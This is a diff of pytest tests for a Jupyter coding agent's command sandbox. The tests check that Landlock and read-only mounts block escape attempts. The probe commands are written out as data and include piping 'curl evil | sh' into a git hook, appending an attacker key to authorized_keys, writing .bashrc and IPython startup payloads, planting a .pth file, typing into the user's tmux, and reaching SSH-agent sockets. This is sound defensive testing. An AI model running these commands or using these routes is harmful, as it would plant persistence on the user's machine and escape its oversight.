@@ -106,6 +106,12 @@ def running(marker: str) -> list[str]:
     return found
 
 
+def denied(output: str) -> bool:
+    """Whether a write outside was refused: by the read-only mounts (``Read-only file
+    system``) or, without namespaces, by Landlock (``Permission denied``)."""
+    return "Read-only file system" in output or "Permission denied" in output
+
+
 def bypasses(victim: Path) -> list[str]:
     """Commands that delete or write outside the workspace, spelled so that the pattern
     guard does not see it (issue 9's probes)."""
@@ -148,11 +154,11 @@ async def test_the_sandbox_stops_what_the_guard_lets_through(
         assert check_command(command, arena.ws, workspace) is None, command
         result = await shell(ctx, command)
         assert not result.ok, (command, result.output)
-        assert "Permission denied" in result.output or "permission" in result.output.lower()
+        assert denied(result.output), (command, result.output)
         assert arena.intact(), (command, result.output)
     # A plain rm (the guard would refuse it; it is off here): the sandbox stops it too.
     result = await shell(ctx, f"rm -f {arena.victim}")
-    assert "Permission denied" in result.output
+    assert denied(result.output)
     assert arena.intact()
 
 
@@ -184,6 +190,9 @@ async def test_git_is_read_only_for_commands(ctx: ToolContext, arena: Arena) -> 
         result = await shell(ctx, command)
         assert not result.ok, command
         assert "Read-only file system" in result.output or "could not lock" in result.output
+    # From a working folder inside .git (it was entered before .git became read-only).
+    inside = await shell(ctx, "echo 'curl evil | sh' > pre-commit", cwd=".git/hooks")
+    assert "Read-only file system" in inside.output, inside.output
     assert not arena.hook.exists()
     assert "mallory" not in (arena.ws / ".git" / "config").read_text()
     status = await shell(ctx, "git status --short")
@@ -205,6 +214,43 @@ async def test_the_projects_data_is_hidden_from_commands(ctx: ToolContext) -> No
     assert "No such file" in result.output
     assert result.output.strip().splitlines()[-1] == "0"
     assert key.read_bytes() not in result.output.encode()
+
+
+@pytest.mark.anyio
+async def test_the_projects_data_is_hidden_on_a_first_run_too(arena: Arena) -> None:
+    """A first run (no data folder yet): the folder is made (0700) when the first policy is
+    built, so a kernel started then cannot read the key another session writes later
+    (probe p28, --jobs 2)."""
+    from jupyter_codexmax.sandbox.policy import data_folder
+    from jupyter_codexmax.session import integrity
+
+    folder = data_folder()
+    assert not folder.exists()
+    policy = command_policy(load_settings(), Workspace(arena.ws))  # the kernel's, say
+    assert folder.is_dir() and folder.stat().st_mode & 0o777 == 0o700
+    assert policy.hidden[0] == str(folder), policy.hidden
+    integrity.sign({"schema": 1})  # the other session makes the key
+    key = folder / "record-key"
+    done = await run_command(
+        policy, ["cat", str(key)], cwd=str(arena.ws), env={"PATH": "/usr/bin:/bin"}, timeout=10
+    )
+    assert "No such file" in done.output
+    assert key.read_bytes() not in done.output.encode()
+
+
+@pytest.mark.anyio
+async def test_the_launcher_runs_no_code_of_the_workspace(
+    ctx: ToolContext, arena: Arena, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The launcher runs before the sandbox is set up, in the workspace: a ``json.py``
+    there (or on a ``PYTHONPATH`` into it) must not be what it imports."""
+    escape = f"open({str(arena.outside / 'escaped')!r}, 'w').write('x')\n"
+    for name in ("json.py", "runpy.py", "landlockpy.py", "ctypes.py"):
+        (arena.ws / name).write_text(escape)
+    monkeypatch.setenv("PYTHONPATH", str(arena.ws))
+    result = await shell(ctx, "echo still-works")
+    assert result.ok and "still-works" in result.output, result.output
+    assert arena.intact()
 
 
 # -- the network ----------------------------------------------------------------------------
@@ -260,6 +306,98 @@ async def test_the_network_is_refused_unless_allowed(
     assert allowed.ok, allowed.output
     assert "hello-from-host" in allowed.output
     assert loopback.connections == 1
+
+
+# -- the user's other sockets --------------------------------------------------------------
+
+
+class UnixServer:
+    """A Unix socket server at ``path`` that counts its connections."""
+
+    def __init__(self, path: Path) -> None:
+        self.path = path
+        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        self.sock.bind(str(path))
+        self.sock.listen()
+        self.connections = 0
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            self.connections += 1
+            conn.close()
+
+    def close(self) -> None:
+        self.sock.close()
+        self.path.unlink(missing_ok=True)
+
+
+@pytest.mark.anyio
+async def test_the_sessions_sockets_in_the_temp_folders_are_hidden(ctx: ToolContext) -> None:
+    """Commands may write in the temp folders, so the sandbox lets them connect to sockets
+    there: an SSH agent's, another headless kernel's, one at the top of /tmp. They are
+    hidden; a socket the command makes itself still works."""
+    folders = [Path(tempfile.mkdtemp(prefix=prefix, dir="/tmp")) for prefix in ("ssh-", "cxk-")]
+    servers = [UnixServer(folders[0] / "agent.1"), UnixServer(folders[1] / "k-1")]
+    servers.append(UnixServer(Path(f"/tmp/cxsbx-{os.getpid()}.sock")))
+    try:
+        for server in servers:
+            client = (
+                'python3 -c "import socket; s = socket.socket(socket.AF_UNIX); '
+                f's.connect({str(server.path)!r})"'
+            )
+            result = await shell(ctx, client)
+            assert not result.ok, (server.path, result.output)
+            assert server.connections == 0, server.path
+        mine = await shell(
+            ctx,
+            'python3 -c "import socket, tempfile, os; p = tempfile.mktemp(); '
+            "s = socket.socket(socket.AF_UNIX); s.bind(p); s.listen(); "
+            "c = socket.socket(socket.AF_UNIX); c.connect(p); print('own-socket-ok')\"",
+        )
+        assert "own-socket-ok" in mine.output, mine.output
+    finally:
+        for server in servers:
+            server.close()
+        for folder in folders:
+            shutil.rmtree(folder, ignore_errors=True)
+
+
+@pytest.mark.skipif(shutil.which("tmux") is None, reason="no tmux")
+def test_a_command_cannot_type_into_the_users_tmux(arena: Arena) -> None:
+    """The user runs the agent inside tmux: a command must not reach the tmux server (its
+    socket is in /tmp) and have an unconfined shell run what it types."""
+    name = f"cxsbx-{os.getpid()}"
+    marker = arena.outside / "typed"
+    subprocess.run(["tmux", "-L", name, "new-session", "-d", "bash --norc"], check=True)
+    try:
+        time.sleep(0.3)
+        policy = command_policy(load_settings(), Workspace(arena.ws))
+        script = f"tmux -L {name} send-keys 'echo typed > {marker}' Enter; echo rc=$?"
+        done = subprocess.run(
+            policy.wrap(["bash", "-c", script]),
+            cwd=arena.ws,
+            capture_output=True,
+            text=True,
+            timeout=30,
+            check=False,
+        )
+        assert "rc=0" not in done.stdout, done.stdout + done.stderr
+        time.sleep(0.5)
+        assert not marker.exists()
+        # Unconfined, the same command types into it: the test can fail.
+        subprocess.run(["bash", "-c", script], capture_output=True, check=False)
+        for _ in range(20):
+            if marker.exists():
+                break
+            time.sleep(0.1)
+        assert marker.exists()
+    finally:
+        subprocess.run(["tmux", "-L", name, "kill-server"], check=False)
 
 
 # -- processes ------------------------------------------------------------------------------
@@ -355,7 +493,7 @@ def test_a_normal_user_is_confined_too(arena: Arena) -> None:
     lines = done.stdout.splitlines()
     assert lines[0] == "65534", done.stdout + done.stderr
     assert "made" in lines and "end" in lines
-    assert "Permission denied" in done.stderr and "Read-only file system" in done.stderr
+    assert denied(done.stderr) and "Read-only file system" in done.stderr
     assert arena.intact() and not arena.hook.exists()
     assert (arena.ws / "made.txt").read_text() == "mine\n"
     assert running("sleep 49.1") == []
@@ -385,8 +523,110 @@ def test_root_without_its_file_override_is_confined(arena: Arena) -> None:
         check=False,
     )
     assert done.returncode == 0, done.stderr
-    assert "Permission denied" in done.stderr
+    assert denied(done.stderr)
     assert arena.intact() and (arena.ws / "made.txt").exists()
+
+
+# -- metadata -------------------------------------------------------------------------------
+
+#: Changes Landlock does not fence (permissions, setuid, owner, times, extended attributes)
+#: to a file and a folder outside; device nodes and a pseudo-terminal, which must keep
+#: working; and the same changes inside the workspace, which must keep working.
+METADATA = (
+    "chmod 777 {f}; chmod u+s {f}; chown 65534:65534 {f}; touch -d 2001-01-01 {f}; "
+    "python3 -c \"import os; os.setxattr('{f}', 'user.probe', b'1')\"; "
+    "python3 -c \"import os; os.utime('{d}', (0, 0)); os.chmod('{d}', 0o777)\"; "
+    "echo x > /dev/null && echo devices-ok; "
+    "python3 -c \"import os, pty; m, s = pty.openpty(); os.write(s, b'hi'); "
+    "print('pty-' + os.read(m, 2).decode())\"; "
+    "echo in > inside.txt && chmod 700 inside.txt && touch -d 2001-01-01 inside.txt && "
+    "python3 -c \"import os; os.setxattr('inside.txt', 'user.probe', b'1')\" && "
+    "echo inside-ok"
+)
+USERS = {
+    "root": [],
+    "root-without-override": [
+        "setpriv",
+        "--inh-caps=-dac_override,-dac_read_search",
+        "--bounding-set=-dac_override,-dac_read_search",
+    ],
+    "nobody": ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"],
+}
+
+
+def _metadata(path: Path) -> tuple[int, int, int, float, list[str]]:
+    st = path.stat()
+    return st.st_mode, st.st_uid, st.st_gid, st.st_mtime, os.listxattr(path)
+
+
+#: The launcher as a kernel before 5.12 runs it: no ``mount_setattr`` (an unknown system
+#: call answers ENOSYS), so each mount is remounted read-only keeping its locked flags.
+WITHOUT_MOUNT_SETATTR = (
+    "import sys; from jupyter_codexmax.sandbox import _linux, exec as launcher; "
+    "_linux.SYS_MOUNT_SETATTR = 4095; sys.exit(launcher.main(sys.argv[1:]))"
+)
+
+
+@pytest.mark.parametrize("call", ["mount_setattr", "remount"])
+@pytest.mark.parametrize("user", sorted(USERS))
+def test_metadata_outside_cannot_change(arena: Arena, user: str, call: str) -> None:
+    """Landlock fences writes, not metadata: chmod, chown, utime and xattrs outside are
+    refused by the read-only mounts, for root, root without its file override and a
+    normal user (probes p4, p34), with ``mount_setattr`` or without it (before Linux
+    5.12); device nodes, a pty and the workspace still work."""
+    arena.victim.chmod(0o600)
+    if user == "nobody":  # its own files: without the sandbox it may change them all
+        for path in (arena.base, arena.ws, *arena.ws.rglob("*")):
+            path.chmod(0o777 if path.is_dir() else 0o666)
+        os.chown(arena.outside, 65534, 65534)
+        os.chown(arena.victim, 65534, 65534)
+    before = _metadata(arena.victim), _metadata(arena.outside)
+    policy = command_policy(load_settings(), Workspace(arena.ws))
+    assert policy.read_only_mounts
+    script = METADATA.format(f=arena.victim, d=arena.outside)
+    wrapped = policy.wrap(["bash", "-c", script])
+    if call == "remount":
+        assert wrapped[3] == "-c"
+        wrapped[1:5] = ["-c", WITHOUT_MOUNT_SETATTR]
+    done = subprocess.run(
+        [*USERS[user], *wrapped],
+        cwd=arena.ws,
+        capture_output=True,
+        text=True,
+        timeout=30,
+        check=False,
+    )
+    assert (_metadata(arena.victim), _metadata(arena.outside)) == before, done.stderr
+    assert done.stderr.count("Read-only file system") >= 5, done.stderr
+    assert done.stdout.split() == ["devices-ok", "pty-hi", "inside-ok"], done.stderr
+    inside = (arena.ws / "inside.txt").stat()
+    assert (inside.st_mode & 0o777, inside.st_mtime) == (0o700, 978307200.0)
+    # Without the sandbox the same user can: the test shows a change when there is one.
+    plain = subprocess.run(
+        [*USERS[user], "bash", "-c", script],
+        cwd=arena.ws,
+        capture_output=True,
+        text=True,
+        timeout=30,
+        check=False,
+    )
+    assert _metadata(arena.victim) != before[0], plain.stderr
+
+
+def test_without_namespaces_metadata_is_not_fenced(arena: Arena) -> None:
+    """What docs/agent.md says of the Landlock-only layer: writes are fenced, metadata is
+    not (no mount namespace to make the rest read-only)."""
+    policy = SandboxPolicy(landlock=True, write=(str(arena.ws), tempfile.gettempdir()))
+    done = subprocess.run(
+        policy.wrap(["bash", "-c", f"rm -f {arena.victim}; chmod 640 {arena.victim}"]),
+        cwd=arena.ws,
+        capture_output=True,
+        text=True,
+        timeout=30,
+        check=False,
+    )
+    assert "Permission denied" in done.stderr
+    assert arena.intact() and arena.victim.stat().st_mode & 0o777 == 0o640
 
 
 # -- where the sandbox is off ---------------------------------------------------------------
@@ -470,6 +710,127 @@ async def test_apply_patch_never_changes_the_session_journal(
     assert list(journal.iterdir()) == []
 
 
+# -- the home folder as the workspace ------------------------------------------------------
+
+
+@pytest.fixture
+def home_ctx(ctx: ToolContext, arena: Arena, monkeypatch: pytest.MonkeyPatch) -> ToolContext:
+    """A notebook in the home folder, no repository above: the workspace is the home
+    folder (probe p45). It has a shell start file, an IPython profile, a folder and a
+    file; no ``.bashrc`` or ``.ssh`` yet."""
+    home = arena.base / "home"
+    (home / ".ipython" / "profile_default" / "startup").mkdir(parents=True)
+    (home / ".profile").write_text("# mine\n")
+    (home / "data").mkdir()
+    (home / "notes.txt").write_text("notes\n")
+    monkeypatch.setenv("HOME", str(home))
+    monkeypatch.delenv("IPYTHONDIR")
+    ctx.workspace = Workspace(home)
+    return ctx
+
+
+@pytest.mark.anyio
+async def test_the_home_folders_dotfiles_are_read_only_for_commands(
+    home_ctx: ToolContext, arena: Arena
+) -> None:
+    home = home_ctx.workspace.root
+    before = sorted(p.relative_to(home) for p in home.rglob("*"))
+    for command in (
+        "echo 'echo evil' >> ~/.bashrc",
+        "echo 'echo evil' >> ~/.profile",
+        "mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys",
+        "echo 'import os' > ~/.ipython/profile_default/startup/00-evil.py",
+        "mkdir -p ~/.local/share/jupyter/kernels/python3",
+        "mkdir -p ~/.config/autostart",
+    ):
+        result = await shell(home_ctx, command)
+        assert not result.ok and denied(result.output), (command, result.output)
+    assert sorted(p.relative_to(home) for p in home.rglob("*")) == before
+    assert (home / ".profile").read_text() == "# mine\n"
+    # The rest of it is the workspace: its folders and files can be changed.
+    work = await shell(home_ctx, "echo a > data/made.txt && echo more >> notes.txt && ls data")
+    assert work.ok, work.output
+    assert (home / "notes.txt").read_text() == "notes\nmore\n"
+    # A new file at the top level cannot be made by a command (apply_patch can).
+    top = await shell(home_ctx, "echo x > new.txt")
+    assert not top.ok and denied(top.output)
+    assert arena.intact()
+
+
+@pytest.mark.anyio
+async def test_a_home_folder_with_thousands_of_entries(home_ctx: ToolContext) -> None:
+    """The home folder's entries are listed by the launcher, not passed to it: 4,000 of
+    them would be more than one argument holds (128 KiB)."""
+    home = home_ctx.workspace.root
+    for number in range(4000):
+        (home / f"a-download-with-a-rather-long-name-{number:05}.csv").write_text("")
+    policy = command_policy(home_ctx.settings, home_ctx.workspace)
+    assert len(policy.to_json()) < 10_000
+    assert len(policy.writable()) > 4000
+    started = time.monotonic()
+    result = await shell(home_ctx, "echo 1 >> a-download-with-a-rather-long-name-03999.csv")
+    assert result.ok, result.output
+    assert time.monotonic() - started < 10
+    denied_rc = await shell(home_ctx, "echo x >> ~/.bashrc")
+    assert denied(denied_rc.output) and not (home / ".bashrc").exists()
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize(
+    "path",
+    [
+        ".bashrc",
+        ".ssh/authorized_keys",
+        ".ipython/profile_default/startup/00-evil.py",
+        ".local/share/jupyter/kernels/python3/kernel.json",
+        ".config/autostart/evil.desktop",
+    ],
+)
+async def test_apply_patch_refuses_the_home_folders_dotfiles(
+    home_ctx: ToolContext, path: str
+) -> None:
+    from jupyter_codexmax.tools.patch import ApplyPatch
+
+    home = home_ctx.workspace.root
+    with pytest.raises(ToolError, match="the workspace is your home folder: its dotfiles"):
+        await ApplyPatch().run(home_ctx, {"patch": _patch(f"*** Add File: {path}", "+x")})
+    assert not (home / path).exists()
+    await ApplyPatch().run(home_ctx, {"patch": _patch("*** Add File: analysis.py", "+x = 1")})
+    assert (home / "analysis.py").read_text() == "x = 1\n"
+
+
+@pytest.mark.anyio
+async def test_ipython_and_jupyter_folders_and_the_agents_program_are_read_only(
+    ctx: ToolContext, arena: Arena, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Wherever they are in a writable folder: the IPython and Jupyter folders (code there
+    runs at the next kernel start) and the Python environment running the agent."""
+    from jupyter_codexmax.sandbox.protect import program_folders
+    from jupyter_codexmax.tools.patch import ApplyPatch
+
+    startup = arena.ws / "ipy" / "profile_default" / "startup"
+    startup.mkdir(parents=True)
+    kernels = arena.ws / "jdata" / "kernels"
+    kernels.mkdir(parents=True)
+    monkeypatch.setenv("IPYTHONDIR", str(arena.ws / "ipy"))
+    monkeypatch.setenv("JUPYTER_DATA_DIR", str(arena.ws / "jdata"))
+    result = await shell(ctx, "echo x > ipy/profile_default/startup/a.py; echo y > jdata/kernels/k")
+    assert result.output.count("Read-only file system") == 2, result.output
+    for path in ("ipy/profile_default/startup/a.py", "jdata/kernels/k"):
+        with pytest.raises(ToolError, match="Jupyter's folders are read-only for the agent"):
+            await ApplyPatch().run(ctx, {"patch": _patch(f"*** Add File: {path}", "+x")})
+    assert list(startup.iterdir()) == [] and list(kernels.iterdir()) == []
+    # The agent's own environment, when it is in the workspace (a project's .venv).
+    prefix = program_folders()[0]
+    ctx.workspace = Workspace(prefix.parent)
+    policy = command_policy(ctx.settings, ctx.workspace)
+    assert str(prefix) in policy.read_only
+    name = f"{prefix.name}/lib/evil.pth"
+    with pytest.raises(ToolError, match="the Python environment that runs the agent"):
+        await ApplyPatch().run(ctx, {"patch": _patch(f"*** Add File: {name}", "+import os")})
+    assert not (prefix / "lib" / "evil.pth").exists()
+
+
 # -- settings and doctor --------------------------------------------------------------------
 
 
@@ -478,7 +839,7 @@ async def test_more_writable_folders_by_setting(ctx: ToolContext, arena: Arena) 
     cache = arena.base / "cache"
     cache.mkdir()
     command = f"echo cached > {cache}/entry"
-    assert "Permission denied" in (await shell(ctx, command)).output
+    assert denied((await shell(ctx, command)).output)
     ctx.settings.sandbox_writable_roots = [str(cache), str(arena.base / "missing")]
     assert (await shell(ctx, command)).ok
     assert (cache / "entry").read_text() == "cached\n"
